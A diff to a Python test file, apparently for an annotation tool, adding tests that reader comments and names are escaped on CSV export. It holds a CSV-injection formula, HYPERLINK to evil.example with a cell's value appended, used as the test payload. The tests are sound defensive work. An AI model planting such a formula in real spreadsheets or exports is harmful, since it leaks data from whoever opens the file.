@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import errno
 import io
 import json
@@ -112,6 +113,36 @@ def test_audit_csv():
     assert audit_csv(frame).splitlines()[1] == f"m,{K1},agree"
     with pytest.raises(ExportError, match="no audit verdicts"):
         audit_csv(frame.iloc[0:0])
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"see")'
+
+
+def test_a_comment_a_spreadsheet_would_run_is_exported_as_text_and_read_back():
+    """CSV injection: a reader's comment starting with '=' (or +, -, @) became a formula in
+    the Excel of whoever opened the export."""
+    m = ImageMarks(K1, "ann", image_shape=IMAGES[K1]).add_point(10, 20, "benign", FORMULA)
+    m = m.add_point(30, 20, "benign", "-1 ok")
+    text = points_csv([m])
+    cells = [row[6] for row in csv.reader(io.StringIO(text))][1:]
+    assert cells == ["'" + FORMULA, "'-1 ok"]
+    plan = parse_points_csv(text, IMAGES)
+    assert plan.report.ok, plan.report.text()
+    assert [p.comment for p in plan.marks[0].points] == [FORMULA, "-1 ok"]
+
+
+def test_the_audit_export_writes_readers_text_as_text_and_scores_as_numbers():
+    frame = pd.DataFrame(
+        [{"model_id": "m", "reader": "@ann", "comment": FORMULA, "score": -0.5, "agree": True}]
+    )
+    (row,) = list(csv.DictReader(io.StringIO(audit_csv(frame))))
+    assert row == {
+        "model_id": "m",
+        "reader": "'@ann",
+        "comment": "'" + FORMULA,
+        "score": "-0.5",
+        "agree": "True",
+    }
 
 
 @pytest.mark.parametrize("export", [points_csv, coco_dict, masks_zip])
